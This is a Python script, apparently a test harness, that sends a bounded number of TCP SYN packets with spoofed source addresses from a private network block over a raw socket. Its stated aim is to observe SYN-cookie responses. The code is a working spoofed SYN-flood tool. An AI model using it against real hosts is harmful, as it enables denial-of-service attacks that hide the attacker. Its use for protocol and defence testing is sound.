#!/usr/bin/python3
"""flood.py DST PORT --count N --rate R --net 10.205.128.0/17 [--seed S] [--start EPOCH]

Sends N TCP SYNs to DST:PORT, R per second, each from its own spoofed source address drawn
without repetition from --net (and a random source port, ISN and IP ID), through a raw
IPv4 socket (IP_HDRINCL). The SYNs offer MSS 1460, SACK and window scale 7 but no
timestamps (like many flood tools), so a SYN-cookie SYN-ACK shows by its missing options.
--start: the wall-clock second (time.time()) to send the first SYN at.
Never answers anything (the spoofed addresses live nowhere). Bounded by N.
"""
import argparse, ipaddress, random, socket, time
from scapy.all import IP, TCP

ap = argparse.ArgumentParser()
ap.add_argument('dst')
ap.add_argument('port', type=int)
ap.add_argument('--count', type=int, default=600)
ap.add_argument('--rate', type=float, default=300)
ap.add_argument('--net', default='10.205.128.0/17')
ap.add_argument('--seed', type=int, default=5)
ap.add_argument('--start', type=float, default=0, help='wall-clock time (time.time()) of the first SYN')
a = ap.parse_args()
rng = random.Random(a.seed)
net = ipaddress.ip_network(a.net)
hosts = rng.sample(range(1, net.num_addresses - 1), min(a.count, net.num_addresses - 2))
pkts = []
for i, h in enumerate(hosts):
    p = IP(src=str(net.network_address + h), dst=a.dst, ttl=64, id=rng.randrange(65536)) / TCP(
        sport=rng.randrange(1024, 65535), dport=a.port, flags='S', seq=rng.randrange(1 << 32), window=64240,
        options=[('MSS', 1460), ('SAckOK', b''), ('NOP', None), ('WScale', 7)])
    pkts.append(bytes(p))
s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
time.sleep(max(0.0, a.start - time.time()))
t0 = time.time()
for i, b in enumerate(pkts):
    time.sleep(max(0.0, t0 + i / a.rate - time.time()))
    s.sendto(b, (a.dst, 0))
print('sent %d SYNs from %d sources in %.2f s' % (len(pkts), len(set(hosts)), time.time() - t0), flush=True)
